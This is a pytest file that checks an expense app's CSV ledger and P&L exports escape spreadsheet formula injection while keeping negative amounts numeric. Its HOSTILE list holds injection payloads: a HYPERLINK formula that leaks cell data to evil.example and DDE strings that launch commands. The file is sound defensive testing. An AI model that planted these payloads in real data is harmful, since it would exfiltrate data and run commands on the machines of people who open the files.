"""Report CSVs are safe to open in a spreadsheet: text an employee typed that starts like a formula arrives as text,
while amounts (negative ones too) stay numbers."""

from __future__ import annotations

from datetime import date

import httpx

from activities.deps import ActivityDeps
from tests.reports.conftest import KnownData, _entry
from tests.reports.readback import csv_table
from tests.reports.test_api import made

HOSTILE = [
    # (description, category, vendor) as an employee typed them
    ('=HYPERLINK("http://evil.example/?leak="&A1,"Receipt")', "=Travel", "+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@Rail Co"),
    ("-1+cmd|' /C calc'!A0", "=Office", "=1+1"),
]


async def test_a_ledger_csv_carries_typed_formulas_as_text(
    api: httpx.AsyncClient, known: KnownData, activity_deps: ActivityDeps
) -> None:
    for description, category, vendor in HOSTILE:
        body = {
            "amount": "12.34",
            "currency": "USD",
            "category": category,
            "description": description,
            "entry_date": "2024-02-14",
            "vendor": vendor,
        }
        created = await api.post("/api/v1/expenses/", json=body, headers=known.alice.headers)
        assert created.status_code == 201, created.text
    # An approved expense that makes the net negative, with a tab and a CR up front (the API strips those; an import
    # or an operator's script might not).
    server = _entry(known.alice, "expense", "9999.00", date(2024, 3, 1), "\rEquipment", "approved", "Hardware Co")
    server.description = "\tserver"
    async with activity_deps.db.transaction() as tx:
        tx.session.add(server)

    _, ledger = await made(api, known.admin, "ledger", "csv")
    header, rows = csv_table(ledger.content)
    by_description = {row[header.index("Description")]: row for row in rows}
    for description, category, vendor in HOSTILE:
        row = by_description["'" + description]  # the typed text, behind the quote a spreadsheet does not show
        assert row[header.index("Category")] == "'" + category
        assert row[header.index("Source / vendor")] == "'" + vendor
        assert row[header.index("Amount")] == "12.34"
    typed = by_description["'\tserver"]
    assert typed[header.index("Category")] == "'\rEquipment" and typed[header.index("Amount")] == "9999.00"
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    # Numbers are not text: the negative net stays a number a spreadsheet can add up.
    net = next(row for row in rows if row[0] == "Net (approved)")
    assert net[header.index("Amount in USD")] == "-6849.24"  # 3900.25 - 750.49 - 9999.00

    _, pnl = await made(api, known.admin, "pnl", "csv")
    header, rows = csv_table(pnl.content)
    march = next(row for row in rows if row[0] == "2024-03")
    assert march[header.index("Net")] == "-9899.00"  # 400.00 revenue, 300.00 + 9999.00 expenses
